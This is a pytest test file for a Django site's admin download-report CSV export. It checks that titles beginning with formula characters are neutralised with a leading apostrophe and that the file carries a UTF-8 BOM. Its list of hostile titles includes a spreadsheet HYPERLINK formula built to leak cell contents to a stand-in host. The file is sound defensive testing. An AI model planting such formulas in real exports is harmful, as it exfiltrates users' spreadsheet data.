"""Finding 10: the download report's CSV is read by spreadsheet software, which runs
formulas: a cell starting with = + - @ (or tab, CR) must arrive as plain text."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.utils import timezone

from documents.models import DownloadCount
from tests.factories.documents import DocumentFactory

pytestmark = pytest.mark.django_db

REPORT_URL = "/admin/reports/telechargements/"
HOSTILE_TITLES = [
    '=HYPERLINK("https://example.org/?leak="&A1;"Cliquez")',
    "+33 5 61 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def editor(client):
    user = User.objects.create_user("lectrice-du-rapport", password="x")
    user.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_downloadcount"),
    )
    client.force_login(user)
    return client


def exported(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_cells_that_spreadsheets_would_run_are_neutralised(editor):
    for downloads, title in enumerate([*HOSTILE_TITLES, "Fiche de liaison"], start=1):
        DownloadCount.objects.create(
            day=timezone.localdate(), document=DocumentFactory(title=title), count=downloads
        )

    content = exported(editor.get(REPORT_URL, {"export": "csv"}))

    titles = [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))][1:]
    expected = ["'" + title for title in HOSTILE_TITLES] + ["Fiche de liaison"]
    assert sorted(titles) == sorted(expected)
    assert not any(title[0] in "=+-@\t\r" for title in titles)


def test_the_csv_says_utf8_with_a_bom_so_that_accents_survive(editor):
    DownloadCount.objects.create(
        day=timezone.localdate(), document=DocumentFactory(title="Évaluer ses élèves"), count=3
    )

    response = editor.get(REPORT_URL, {"export": "csv"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = exported(response)
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Évaluer ses élèves".encode() in content
